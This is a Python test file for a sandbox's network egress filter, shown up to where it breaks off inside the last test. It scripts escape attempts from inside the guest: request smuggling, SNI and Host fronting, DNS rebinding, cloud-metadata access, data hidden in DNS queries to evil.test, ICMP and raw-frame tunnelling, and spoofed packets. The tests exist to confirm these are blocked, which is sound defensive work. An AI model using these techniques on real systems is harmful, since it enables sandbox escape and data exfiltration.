#!/usr/bin/env python3
# timeout: 900
"""The network leash: what is allowed flows, everything else stays in, whatever the guest's root tries.

Runs in a test internet of its own (lib/internet.py). Each escape is a program run inside a sandbox; that it failed is
read from outside: from what arrived in the world, packet by packet.
"""

import contextlib
import ipaddress
import json
import os
import shutil
import signal
import subprocess
import time

from lib import internet

internet.enter()

from lib.harness import (  # noqa: E402
    BUILD, HOME, HUSK, SLOW, TOP, adopt_snapshot, assert_equal, assert_fails, assert_in, assert_no_leaks, create, environment,
    event_kinds, events, fork, husk, inspect, instance_processes, kill_instance, main, scratch, sh, supervisor_pid, test, until,
)
from lib.http import server  # noqa: E402

CURL = f"curl -sS -m {10 * SLOW:.0f} --cacert /tmp/ca.crt"
ALLOWED = ("--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "big.test", "--allow", "198.51.100.7")


def box(*options, **more):
    """A sandbox under `allow` that trusts the world's certificates."""
    sandbox = create(*(options or ALLOWED), **more)
    husk("cp", str(internet.SCRATCH / "ca.crt"), f"{sandbox}:/tmp/ca.crt")
    return sandbox


def python(sandbox, program, *words, timeout=60, code=0):
    return husk("exec", sandbox, "--", "python3", "-c", program, *words, timeout=timeout, code=code).text.strip()


# Tools of the guest's programs: each attempt says "out" when bytes came back that are no denial, and otherwise why not.
TOOLS = """
import errno, os, socket, ssl, struct, sys, time
def tried(name, attempt):
    try: print(name, "out" if attempt() else "nothing")
    except Exception as e: print(name, type(e).__name__, e)
def tcp(address, port, data=b"GET / HTTP/1.0\\r\\n\\r\\n", wait=3):
    s = socket.create_connection((address, port), wait); s.settimeout(wait); s.sendall(data); answer = s.recv(1000)
    if answer.startswith((b"HTTP/1.1 403 ", b"HTTP/1.1 400 ")): raise PermissionError(answer.partition(b"\\r\\n\\r\\n")[2].decode())
    return answer
def udp(address, port, data=b"hello", wait=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(wait); s.sendto(data, (address, port)); return s.recv(100)
def tls(address, sni, port=443, host=None):
    c = ssl.create_default_context(cafile="/tmp/ca.crt"); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = c.wrap_socket(socket.create_connection((address, port), 3), server_hostname=sni)
    s.sendall(f"GET / HTTP/1.1\\r\\nHost: {host or sni}\\r\\nConnection: close\\r\\n\\r\\n".encode()); return b" 200 " in s.recv(1000)
"""


def attempts(sandbox, program):
    """{name: outcome} of a program that uses the tools."""
    text = python(sandbox, TOOLS + program, timeout=120)
    return dict(line.split(" ", 1) for line in text.splitlines() if " " in line)


def assert_stays_in(sandbox, program, forbidden=()):
    """Every attempt fails, and no packet to a forbidden destination left the host."""
    before = set(internet.arrivals())
    for name, outcome in attempts(sandbox, program).items():
        assert outcome != "out", f"{name} got out"
    time.sleep(0.2)
    new = set(internet.arrivals()) - before
    bad = [packet for packet in new if packet[1] in forbidden or packet[:2] in forbidden or packet in forbidden]
    assert not bad, f"left the host: {bad}"


# ---- what is allowed ----


@test
def test_allowed_names_flow():
    sandbox = box()
    for url in ("http://allowed.test/a", "https://allowed.test/b", "https://one.wild.test/c", "http://two.one.wild.test/d"):
        answer = json.loads(sh(sandbox, f"{CURL} {url}"))
        assert_equal(f"//{answer['host']}{answer['path']}", url.partition(":")[2])
    assert_equal(inspect(sandbox)["egress"], "allow")


@test
def test_allowed_addresses_flow():
    sandbox = box()
    out = attempts(sandbox, "tried('tcp', lambda: tcp('198.51.100.7', 7000)); tried('udp', lambda: udp('198.51.100.7', 7001))")
    assert_equal(out, {"tcp": "out", "udp": "out"})


@test
def test_run_prints_the_reason():
    good = husk("run", "--allow", "allowed.test", "--", "curl", "-sS", "http://allowed.test/x")
    assert_in('"path": "/x"', good.text)
    bad = husk("run", "--allow", "allowed.test", "--", "curl", "-sS", "-m", "10", "--resolve", f"evil.test:80:{internet.WEB}",
               "http://evil.test/")
    for piece in ("evil.test", "not allowed", "--allow evil.test"):
        assert_in(piece, bad.text)
        assert_in(piece, bad.error)
    plain = husk("run", "--allow", "allowed.test", "--", "curl", "-sS", "-m", "10", "https://evil.test/", code=6)
    assert_in("husk: blocked: evil.test is not allowed; it requires --allow evil.test", plain.error)
    [denied] = husk("run", "--json", "--allow", "allowed.test", "--", "curl", "-sS", "https://evil.test/", code=6).json()["denied"]
    assert_equal((denied["host"], denied["rule"]), ("evil.test", "evil.test"))


@test
def test_open_reaches_the_public():
    sandbox = box("--egress", "open")
    assert_in("evil.test", sh(sandbox, f"{CURL} https://evil.test/"))
    assert_stays_in(
        sandbox,
        "".join(f"tried('{a}', lambda: tcp('{a}', {p}))\n" for a, p in PRIVATE_PLACES),
        {a for a, _ in PRIVATE_PLACES},
    )


@test
def test_off_is_the_default():
    sandbox = box("--ttl", "10m")
    assert_equal(inspect(sandbox)["egress"], "off")
    assert_stays_in(sandbox, f"""
tried("tcp", lambda: tcp("{internet.WEB}", 80)); tried("udp", lambda: udp("{internet.RAW}", 7001))
tried("dns", lambda: socket.getaddrinfo("allowed.test", 80))
""", {internet.WEB, internet.RAW, internet.DNS})
    assert "leash" not in str(instance_processes().values())


# ---- escapes ----

PRIVATE_PLACES = [
    (internet.METADATA, 80), (internet.PRIVATE, 80), (internet.OTHER_PRIVATE, 80), (internet.SHARED, 80),
    (internet.HOST, 8080), ("127.0.0.1", 8080), ("0.0.0.0", 8080), ("224.0.0.1", 80), ("255.255.255.255", 80), ("10.201.0.1", 8080),
]  # fmt: skip


@test
def test_escape_in_a_body():
    """The host at port 8090 ignores bodies and reads their bytes as the next request."""
    sandbox, before = box("--allow", "allowed.test:8090"), len(internet.requests())
    outcome = attempts(sandbox, f"""
web = socket.gethostbyname("allowed.test")
hidden = "GET /smuggled HTTP/1.1\\r\\nHost: neighbour.test\\r\\n\\r\\n"
for method in ("GET", "DELETE", "POST"):
    text = f"{{method}} /seen HTTP/1.1\\r\\nHost: allowed.test:8090\\r\\nContent-Length: {{len(hidden)}}\\r\\n\\r\\n{{hidden}}"
    tried(method, lambda: tcp(web, 8090, text.encode()))
""")
    assert all("PermissionError" in text for text in outcome.values()), outcome
    assert_in("body", sh(sandbox, f"{CURL} -i -X GET -d 'GET / HTTP/1.1' http://allowed.test:8090/"))
    assert_in("/fine of allowed.test:8090", sh(sandbox, f"{CURL} -X GET -d '{{}}' http://allowed.test:8090/fine"))
    seen = internet.requests()[before:]
    assert not [r for r in seen if "neighbour" in str(r.get("host")) or "smuggled" in r.get("path", "")], seen
    assert_in("begins like a request", husk("egress", sandbox, "--log").text)


@test
def test_escape_raw_addresses():
    assert_stays_in(box(), f"""
for a, p in (("{internet.EVIL}", 80), ("{internet.EVIL}", 443), ("{internet.EVIL}", 7000), ("{internet.WEB}", 7000), ("{internet.PUBLIC_DNS}", 80)):
    tried(f"tcp:{{a}}:{{p}}", lambda: b" 200 " in tcp(a, p, b"x" * 10 if p == 7000 else b"GET / HTTP/1.0\\r\\n\\r\\n") or p == 7000)
    tried(f"udp:{{a}}:{{p}}", lambda: udp(a, p))
""", {internet.EVIL, internet.PUBLIC_DNS, ("tcp", internet.WEB, 7000)})


@test
def test_escape_private_ranges_and_metadata():
    loopback, outside = internet.Service("127.0.0.1", 8080), internet.Service(internet.HOST, 8080)
    assert_stays_in(
        box("--allow", "allowed.test", "--allow", "0.0.0.0/0"),
        "".join(f"tried('{a}', lambda: tcp('{a}', {p}))\n" for a, p in PRIVATE_PLACES if not a.startswith("127")),
        {a for a, _ in PRIVATE_PLACES},
    )
    assert_equal(loopback.visits + outside.visits, 0, "visits to services of the host")
    loopback.listener.close()
    outside.listener.close()


@test
def test_escape_rebinding():
    names = ("rebind.test", "meta.test", "host.test", "loop.test", "gateway.test")
    sandbox = box(*(word for name in names for word in ("--allow", name)))
    assert_stays_in(sandbox, f"""
for name in {names}:
    tried("dns:" + name, lambda: socket.getaddrinfo(name, 80))
    tried("http:" + name, lambda: tcp(name, 80))
for a in ("{internet.PRIVATE}", "{internet.METADATA}", "{internet.HOST}"):
    tried("host:" + a, lambda: b" 200 " in tcp(a, 80, b"GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n"))
    tried("tls:" + a, lambda: tls(a, "rebind.test"))
""", {internet.PRIVATE, internet.METADATA})


@test
def test_escape_neighbour_at_an_allowed_address():
    sandbox = box()
    sh(sandbox, f"{CURL} https://allowed.test/")
    before = len(internet.requests())
    assert_stays_in(sandbox, f"""
tried("sni", lambda: tls("{internet.WEB}", "neighbour.test"))
tried("fronting", lambda: tls("{internet.WEB}", "neighbour.test", host="allowed.test"))
tried("no-sni", lambda: tls("{internet.WEB}", None, host="allowed.test"))
tried("host", lambda: b" 200 " in tcp("{internet.WEB}", 80, b"GET / HTTP/1.1\\r\\nHost: neighbour.test\\r\\n\\r\\n"))
tried("two-hosts", lambda: b" 200 " in tcp("{internet.WEB}", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: neighbour.test\\r\\n\\r\\n"))
tried("absolute", lambda: b" 200 " in tcp("{internet.WEB}", 80, b"GET http://neighbour.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
tried("no-host", lambda: b" 200 " in tcp("{internet.WEB}", 80, b"GET / HTTP/1.0\\r\\n\\r\\n"))
tried("connect", lambda: b" 200 " in tcp("{internet.WEB}", 80, b"CONNECT neighbour.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
tried("other-port", lambda: b" 200 " in tcp("{internet.WEB}", 8080, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
tried("not-http", lambda: tcp("{internet.WEB}", 80, b"\\x00\\x01binary\\r\\n\\r\\n"))
""")
    assert not [r for r in internet.requests()[before:] if "neighbour" in json.dumps(r)]


@test
def test_escape_second_request_on_one_connection():
    sandbox = box()
    before = len(internet.requests())
    program = f"""
s = socket.create_connection(("allowed.test", 80), 3); s.settimeout(3)
s.sendall(b"GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: neighbour.test\\r\\n\\r\\n")
time.sleep(1); text = s.recv(100000)
print("first", "out" if b'/first' in text else text); print("second", "out" if b'"/second"' in text else "refused")
"""
    out = attempts(sandbox, program)
    assert_equal(out["second"], "refused")
    assert not [r for r in internet.requests()[before:] if r.get("path") == "/second"]


@test
def test_escape_allowed_name_at_another_address():
    assert_stays_in(box(), f"""
tried("sni", lambda: tls("{internet.EVIL}", "allowed.test"))
tried("host", lambda: b" 200 " in tcp("{internet.EVIL}", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
""", {internet.EVIL})


DNS_TOOLS = """
def query(name, kind=1):
    q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\\0" + struct.pack("!HH", kind, 1)
def rcode(answer): return answer[3] & 15
"""


@test
def test_escape_dns_elsewhere():
    assert_stays_in(box(), DNS_TOOLS + f"""
q = query("allowed.test")
for a in ("{internet.PUBLIC_DNS}", "{internet.DNS}", "{internet.WEB}"):
    tried("udp:" + a, lambda: udp(a, 53, q))
    tried("tcp:" + a, lambda: len(tcp(a, 53, struct.pack("!H", len(q)) + q)) > 2)
    tried("dot:" + a, lambda: tls(a, "dns.test", 853))
tried("doh", lambda: tls("{internet.WEB}", "dns.test"))
""", {internet.PUBLIC_DNS, ("tcp", internet.DNS, 853), ("tcp", internet.WEB, 853), ("udp", internet.WEB, 53)})


@test
def test_escape_data_in_dns_names():
    sandbox = box()
    before = len(internet.requests())
    out = attempts(sandbox, DNS_TOOLS + """
gate = open("/etc/resolv.conf").read().split()[1]
for kind in (1, 16, 28, 15, 255, 10):
    print(f"evil:{kind}", rcode(udp(gate, 53, query("c2VjcmV0.evil.test", kind))))
    print(f"long:{kind}", rcode(udp(gate, 53, query("x" * 60 + ".notallowed.test", kind))))
for kind in (16, 10, 255): print(f"allowed:{kind}", rcode(udp(gate, 53, query("allowed.test", kind))))
""")
    for name, code in out.items():
        assert code == "5" or name.startswith("allowed"), f"{name}: rcode {code}, wanted REFUSED"
    asked = [r for r in internet.requests()[before:] if r["kind"] == "dns"]
    assert not [r for r in asked if r["host"] != "allowed.test"], asked


@test
def test_escape_icmp_and_other_protocols():
    assert_stays_in(box(), f"""
def raw(protocol, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); s.settimeout(1); s.sendto(data, ("{internet.RAW}", 0)); return s.recv(100)
def echo():
    p = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"secret data!"; c = sum(struct.unpack(f"!{{len(p)//2}}H", p)); c = (c >> 16) + (c & 0xffff)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(1); s.sendto(p[:2] + struct.pack("!H", ~c & 0xffff) + p[4:], ("{internet.RAW}", 0))
    while True:
        if s.recv(100)[20] == 0: return True
tried("icmp", echo)
for protocol in (2, 4, 41, 47, 50, 89, 94, 132, 136): tried(f"ip:{{protocol}}", lambda: raw(protocol, b"tunnel" * 4))
""", {("icmp", internet.RAW), *((str(p), internet.RAW) for p in (2, 4, 41, 47, 50, 89, 94, 132, 136))})


@test
def test_escape_ipv6():
    assert_stays_in(box(), """
for a in ("fd00:ec2::254", "2001:db8::1", "fe80::1%eth0", "::ffff:203.0.113.20", "64:ff9b::cb00:7114"):
    tried("tcp6:" + a, lambda: tcp(a, 80, wait=2))
tried("aaaa", lambda: [x for x in socket.getaddrinfo("allowed.test", 80) if x[0] == socket.AF_INET6])
""", {internet.EVIL})


@test
def test_escape_raw_frames():
    """Fragments, other sources, VLANs, ARP, IPv6: straight onto the wire."""
    assert_stays_in(box(), f"""
def checksum(b):
    s = sum(struct.unpack(f"!{{len(b)//2}}H", b)); s = (s >> 16) + (s & 0xffff); return ~((s >> 16) + s) & 0xffff
def packet(source, target, fragment=0, protocol=17, port=7001):
    data = struct.pack("!HHHH", 5555, port, 8 + 8, 0) + b"frames!!"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 9, fragment, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data
def frame(kind, data):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("eth0", 0))
    s.send(b"\\x02husk\\x01" + b"\\x02husk\\x02" + struct.pack("!H", kind) + data)
own = os.popen("hostname -I").read().split()[0]
tried("fragment", lambda: frame(0x800, packet(own, "{internet.EVIL}", 0x2000)))
tried("later", lambda: frame(0x800, packet(own, "{internet.EVIL}", 8)))
for source in ("10.201.0.1", own.rpartition(".")[0] + ".1", "10.201.0.5", "10.202.0.2", "127.0.0.1", "{internet.HOST}", "0.0.0.0"):
    tried("spoof:" + source, lambda: frame(0x800, packet(source, "{internet.RAW}", port=7999)))
tried("vlan", lambda: frame(0x8100, struct.pack("!HH", 5, 0x800) + packet(own, "{internet.EVIL}")))
tried("arp", lambda: frame(0x806, struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 1, b"\\x02husk\\x02", socket.inet_aton(own), b"\\0" * 6, socket.inet_aton("{internet.EVIL}"))))
tried("ipv6", lambda: frame(0x86dd, struct.pack("!IHBB", 6 << 28, 8, 17, 64) + bytes(40)))
""", {internet.EVIL, ("udp", internet.RAW, 7999)})


@test
def test_escape_udp_and_quic():
    assert_stays_in(box(), f"""
tried("quic", lambda: udp("{internet.WEB}", 443, bytes([0xc3, 0, 0, 0, 1]) + bytes(1200)))
tried("quic-name", lambda: udp(socket.gethostbyname("allowed.test"), 443, bytes(1200)))
tried("udp", lambda: udp("{internet.EVIL}", 7001))
tried("ntp", lambda: udp("{internet.EVIL}", 123)); tried("dtls", lambda: udp("{internet.WEB}", 4433))
tried("multicast", lambda: udp("224.0.0.251", 5353)); tried("broadcast", lambda: udp("255.255.255.255", 67))
""", {internet.EVIL, ("udp", internet.WEB, 443)})


@test
def test_escape_new_addresses_inside():
    """The guest's root turns its own knobs: another address, another route, another resolver."""
    sandbox = box()
    assert_stays_in(sandbox, f"""
import fcntl
def ask(kind, flags, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.send(struct.pack("IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
    e = struct.unpack_from("i", s.recv(4096), 16)[0]
    return e == 0
index = socket.if_nametoindex("eth0")
added = ask(20, 0x600, struct.pack("BBBBI", 2, 24, 0, 0, index) + struct.pack("HH4s", 8, 2, socket.inet_aton("{internet.HOST}")) + struct.pack("HH4s", 8, 1, socket.inet_aton("{internet.HOST}")))
def from_there():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.bind(("{internet.HOST}", 0)); s.sendto(b"x", ("{internet.RAW}", 7001)); return s.recv(10)
tried("other-source", from_there)
open("/etc/resolv.conf", "w").write("nameserver {internet.PUBLIC_DNS}\\n")
tried("resolver", lambda: socket.getaddrinfo("allowed.test", 80))
""", {internet.PUBLIC_DNS})


@test
def test_escape_the_gateway_itself():
    """Of all ports only the resolver answers there, and nothing listens for other sandboxes."""
    out = attempts(box(), """
gate = open("/etc/resolv.conf").read().split()[1]
for port in (1, 22, 80, 443, 2375, 8080, 40001, 40002):
    tried(f"port:{port}", lambda: b" 200 " in tcp(gate, port, wait=2))
""")
    assert "out" not in out.values(), out


@test
def test_escape_to_a_neighbour():
    victim, attacker = box("--egress", "open"), box("--egress", "open")
    husk("exec", "-d", victim, "--", "sh", "-c", "cd /tmp && exec python3 -m http.server 80")
    until(lambda: sh(victim, "curl -sS -m 2 -o /dev/null -w '%{http_code}' http://127.0.0.1/ || true").startswith("200"), "the victim listens")
    [address] = addresses(victim)
    out = attempts(attacker, f"""
tried("same", lambda: b"ca.crt" in tcp("{address}", 80))
for n in (1, 3, 5, 6, 9, 10): tried(f"near:{{n}}", lambda: tcp(f"10.201.0.{{n}}", 80, wait=1))
""")
    assert "out" not in out.values(), out
    # Two may have the same port, and each is reached through its own door only.
    husk("exec", "-d", attacker, "--", "sh", "-c", "cd /etc && exec python3 -m http.server 80")
    with server() as huskd:
        for sandbox, there in ((victim, "ca.crt"), (attacker, "passwd")):
            until(lambda: there in huskd.get(f"/v1/sandboxes/{sandbox}/ports/80/", status=None).text, f"{there} is served")
        assert "passwd" not in huskd.get(f"/v1/sandboxes/{victim}/ports/80/").text


@test
def test_escape_through_long_lived_connections():
    """A policy made stricter cuts what it does not allow any more."""
    sandbox = box()
    husk("exec", "-d", sandbox, "--", "python3", "-c", TOOLS + f"""
s = socket.create_connection(("{internet.RAW}", 7000)); n = 0
try:
    while True:
        s.sendall(b"tick"); s.settimeout(5)
        if not s.recv(100): break
        n += 1; open("/tmp/ticks", "w").write(str(n)); time.sleep(0.05)
finally: open("/tmp/cut", "w").write("cut")
""")
    until(lambda: sh(sandbox, "cat /tmp/ticks 2>/dev/null || echo 0") not in ("0", ""), "the connection works")
    husk("egress", sandbox, "--remove", internet.RAW)
    until(lambda: sh(sandbox, "cat /tmp/cut 2>/dev/null || true") == "cut", "the connection is cut")
    assert_in("allowed.test", sh(sandbox, f"{CURL} https://allowed.test/"))
    assert_stays_in(sandbox, f"tried('again', lambda: tcp('{internet.RAW}', 7000))")


# ---- denials an agent can read ----


@test
def test_denials_are_told():
    sandbox = box()
    body = sh(sandbox, f"curl -sS -m 10 -w ' code=%{{http_code}}' --resolve evil.test:80:{internet.WEB} http://evil.test/secret")
    for piece in ("evil.test", "code=403"):
        assert_in(piece, body)
    sh(sandbox, f"{CURL} --resolve evil.test:443:{internet.WEB} https://evil.test/", code=35)
    sh(sandbox, "getent hosts evil.test", code=2)
    log = husk("egress", sandbox, "--log", "--json").json()
    denied = {(entry["kind"], entry["host"]) for entry in log if entry["verdict"] == "denied"}
    for kind in ("http", "tls", "dns"):
        assert (kind, "evil.test") in denied, denied
    assert any(entry["rule"] for entry in log if entry["host"] == "evil.test"), log
    told = until(lambda: [e for e in events(sandbox) if e["kind"] == "egress"], "events of denials")
    assert_in("evil.test", json.dumps(told))
    assert_in("evil.test", husk("egress", sandbox, "--log").text)
    stats = husk("stats", sandbox, "--json").json()
    assert stats["network_denied"] >= 3, stats


@test
def test_log_outlives_the_sandbox():
    sandbox = box()
    sh(sandbox, "getent hosts evil.test", code=2)
    husk("rm", sandbox)
    assert_in("evil.test", husk("egress", sandbox, "--log").text)


# ---- counters and limits ----


@test
def test_counts_by_destination():
    sandbox = box()
    sh(sandbox, f"{CURL} -o /dev/null https://big.test/bytes/2000000")
    traffic = {entry["host"]: entry for entry in husk("egress", sandbox, "--json").json()["traffic"]}
    assert traffic["big.test"]["received"] >= 2000000, traffic
    assert_equal(traffic["big.test"]["connections"], 1)
    assert husk("stats", sandbox, "--json").json()["network_received"] >= 2000000
    sh(sandbox, "getent hosts evil.test", code=2)
    with server() as huskd:
        lines = dict(line.rsplit(" ", 1) for line in huskd.get("/metrics").text.splitlines() if sandbox in line)
    assert_equal(lines[f'husk_network_connections_total{{sandbox="{sandbox}",host="big.test",port="443"}}'], "1")
    received = lines[f'husk_network_received_bytes_total{{sandbox="{sandbox}",host="big.test",port="443"}}']
    assert int(received) >= 2000000, lines
    assert [key for key in lines if key.startswith("husk_network_denied_total") and "evil.test" in key], lines


@test
def test_byte_limit():
    sandbox = box(*ALLOWED, "--net-bytes", "1M")
    sh(sandbox, f"{CURL} -o /dev/null https://big.test/bytes/200000")
    got = sh(sandbox, f"{CURL} -o /dev/null -w '%{{size_download}}' https://big.test/bytes/9000000 2>/dev/null || true")
    assert int(got or 0) < 2000000, got
    assert_stays_in(sandbox, "tried('after', lambda: b' 200 ' in tcp('big.test', 80, b'GET / HTTP/1.1\\r\\nHost: big.test\\r\\n\\r\\n'))")


@test
def test_rate_limit():
    sandbox = box(*ALLOWED, "--net-rate", "1M")
    took = float(sh(sandbox, f"{CURL} -m 60 -o /dev/null -w '%{{time_total}}' https://big.test/bytes/6000000"))
    assert took > 2, f"6 MB at 1 MiB a second took {took} s"


@test
def test_connection_limit():
    out = attempts(box(*ALLOWED, "--net-connections", "5"), f"""
held = []
for i in range(20):
    try: s = socket.create_connection(("{internet.RAW}", 7000), 3); s.settimeout(2); s.sendall(b"x"); held.append(s) if s.recv(1) else None
    except OSError: pass
print("held", len(held))
""")
    assert 1 <= int(out["held"]) <= 5, out


# ---- its life ----


@test
def test_changes_live():
    sandbox = box("--ttl", "10m")
    sh(sandbox, "curl -sS -m 5 http://allowed.test/", code=6)
    husk("egress", sandbox, "--allow", "allowed.test")
    assert_in("allowed.test", sh(sandbox, f"{CURL} https://allowed.test/"))
    husk("egress", sandbox, "--mode", "open")
    assert_in("evil.test", sh(sandbox, f"{CURL} https://evil.test/"))
    husk("egress", sandbox, "--mode", "off")
    assert_stays_in(sandbox, f"tried('tcp', lambda: tcp('{internet.WEB}', 80))")
    assert_in("policy", event_kinds(sandbox))


@test
def test_forks_inherit():
    parent = box()
    for child in fork(parent, "-n", "2"):
        assert_equal(inspect(child)["egress"], "allow")
        assert_in("allowed.test", sh(child, f"{CURL} https://allowed.test/"))
        assert_stays_in(child, f"tried('evil', lambda: tcp('{internet.EVIL}', 80))", {internet.EVIL})
    [strict] = fork(parent, "--egress", "off")
    assert_stays_in(strict, f"tried('tcp', lambda: tcp('{internet.WEB}', 80))")
    assert_in("allowed.test", sh(parent, f"{CURL} https://allowed.test/"))


def addresses(sandbox):
    """Of its interface: its own, then those of its past."""
    return sh(sandbox, "hostname -I").split()


@test
def test_each_has_its_own_address():
    """A /30 for each; a copy gets another, keeps the old ones for the sockets that have them, and finds the resolver."""
    parent, other = box(), box()
    [child] = fork(parent)
    [grandchild] = fork(child)
    husk("hibernate", child)
    later = box()  # may take the place that the child had
    husk("wake", child)
    boxes = (parent, other, child, grandchild, later)
    own = [addresses(sandbox)[0] for sandbox in boxes]
    assert_equal(len({ipaddress.ip_network(f"{address}/30", strict=False) for address in own}), len(boxes), f"wires of {own}")
    assert all(address in ipaddress.ip_network("10.201.0.0/16") for address in map(ipaddress.ip_address, own)), own
    assert_equal(addresses(parent), own[:1])
    assert_in(own[0], addresses(grandchild)[1:])
    for sandbox in boxes:
        source = "import socket; s = socket.create_connection(('198.51.100.7', 7000), 5); print(s.getsockname()[0])"
        assert_equal(python(sandbox, source), addresses(sandbox)[0], "the source of a new connection")
        assert_in("allowed.test", sh(sandbox, f"{CURL} https://allowed.test/"))


@test
def test_sockets_survive_forks():
    """Connected and bound UDP sockets and listeners on an address of its past go on in another machine, and so do
    connections over loopback; one that leaves is cut, and does not keep the machine from being copied."""
    parent = box()
    husk("exec", "-d", parent, "--", "python3", "-c", f"""
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("{internet.RAW}", 7001))
own = u.getsockname()[0]
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); b.bind((own, 5000)); l = socket.create_server((own, 5001))
inside = socket.create_server(("127.0.0.1", 5002))
near = socket.create_connection(("127.0.0.1", 5002)); far = inside.accept()[0]; far.settimeout(5)
out = socket.create_connection(("{internet.RAW}", 7000)); out.settimeout(5)
n, cut = 0, False
while True:
    u.settimeout(1)
    try: u.send(b"tick"); n += len(u.recv(10)) > 0
    except OSError: pass
    near.sendall(b"x"); far.recv(1)
    try: out.sendall(b"x"); cut = cut or not out.recv(1)
    except OSError: cut = True
    open("/tmp/cut", "w").write(str(cut)); open("/tmp/ticks", "w").write(str(n)); time.sleep(0.1)
""")
    until(lambda: sh(parent, "cat /tmp/ticks 2>/dev/null || echo 0") not in ("0", ""), "the socket works")
    [child] = fork(parent)
    [grandchild] = fork(child)
    for sandbox in (grandchild, child, parent):
        before = int(sh(sandbox, "cat /tmp/ticks"))
        until(lambda: int(sh(sandbox, "cat /tmp/ticks") or 0) > before + 2, f"the socket of {sandbox} goes on")
        # The parent's own goes on with a current gVisor, and is cut by Debian's.
        if sandbox != parent or not (os.environ.get("HUSK_RUNSC") or (BUILD / "runsc").exists()):
            assert_equal(sh(sandbox, "cat /tmp/cut"), "True", "the connection that left it")


@test
def test_kept_across_hibernation():
    sandbox = box()
    sh(sandbox, "getent hosts evil.test", code=2)
    husk("hibernate", sandbox)
    assert_in("evil.test", husk("egress", sandbox, "--log").text)
    husk("egress", sandbox, "--allow", "evil.test")
    husk("wake", sandbox)
    for name in ("allowed.test", "evil.test"):
        assert_in(name, sh(sandbox, f"{CURL} https://{name}/"))
    assert_stays_in(sandbox, f"tried('raw', lambda: tcp('{internet.EVIL}', 7000))", {("tcp", internet.EVIL, 7000)})
    assert_in("evil.test", husk("egress", sandbox, "--log").text)


@test
def test_snapshots_carry_the_policy():
    sandbox = box()
    snapshot = adopt_snapshot(husk("snapshot", "create", sandbox, "--json").json()["id"])
    copy = create("--from", snapshot)
    assert_equal(inspect(copy)["egress"], "allow")
    assert_in("allowed.test", sh(copy, f"{CURL} https://allowed.test/"))


def leash_of(sandbox):
    """The pid of its leash."""
    children = f"/proc/{supervisor_pid(sandbox)}/task"
    for task in os.listdir(children):
        # Threads and processes may end meanwhile.
        with contextlib.suppress(OSError), open(f"{children}/{task}/children", encoding="utf-8") as file:
            for pid in file.read().split():
                with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as line:
                    if b"leash" in line.read().split(b"\0"):
                        return int(pid)
    return None


@test
def test_leash_killed_fails_closed_and_comes_back():
    sandbox = box()
    sh(sandbox, f"{CURL} https://allowed.test/")
    pid = leash_of(sandbox)
    os.kill(pid, signal.SIGSTOP)  # neither alive nor dead: nothing passes
    assert_stays_in(sandbox, f"tried('stopped', lambda: tcp('{internet.RAW}', 7000, wait=2)); tried('evil', lambda: tcp('{internet.EVIL}', 80, wait=1))", {internet.EVIL})
    os.kill(pid, signal.SIGKILL)
    assert_stays_in(sandbox, f"tried('dead', lambda: tcp('{internet.EVIL}', 80))", {internet.EVIL})
    until(lambda: leash_of(sandbox) not in (None, pid), "the leash comes back")
    until(lambda: "allowed.test" in sh(sandbox, f"{CURL} https://allowed.test/ || true"), "the allowed flows again")


@test
def test_leash_is_unprivileged():
    with open(f"/proc/{leash_of(box())}/status", encoding="utf-8") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    assert int(status["Uid"].split()[0]) >= 0x0FFF0000, status["Uid"]
    for name in ("CapEff", "CapPrm", "CapInh", "CapAmb"):
        assert_equal(int(status[name], 16), 0, name)
    assert_equal(status["NoNewPrivs"].strip(), "1")
    assert_equal(status["Seccomp"].strip(), "2")


@test
def test_supervisor_killed_leaves_nothing():
    sandbox = box()
    sh(sandbox, f"{CURL} https://allowed.test/")
    leash = leash_of(sandbox)
    os.kill(supervisor_pid(sandbox), signal.SIGKILL)
    until(lambda: not os.path.exists(f"/proc/{leash}"), "the leash ends with its supervisor")
    husk("ls")
    assert_no_leaks()


# ---- secrets ----

VALUE = "s3cr3t-Value-90210"


@test
def test_secret_is_swapped_for_its_host_only():
    sandbox = box("--allow", "allowed.test", "--secret", f"TOKEN={VALUE}@api.test")
    placeholder = sh(sandbox, "printenv TOKEN")
    assert VALUE not in placeholder and placeholder
    send = "curl -sS -m 10 -H \"Authorization: Bearer $TOKEN\""
    sh(sandbox, f"{send} https://api.test/one")  # trusted without being told: the authority is in the guest's store
    python(sandbox, "import os, urllib.request as u; u.urlopen(u.Request('https://api.test/two', headers={'X-Key': os.environ['TOKEN']})).read()")
    sh(sandbox, f"{CURL} -H \"Authorization: Bearer $TOKEN\" https://allowed.test/three")
    sh(sandbox, "curl -sS -m 10 -d \"$TOKEN\" https://api.test/four")
    seen = {r["path"]: r for r in internet.requests() if r.get("path") in ("/one", "/two", "/three", "/four")}
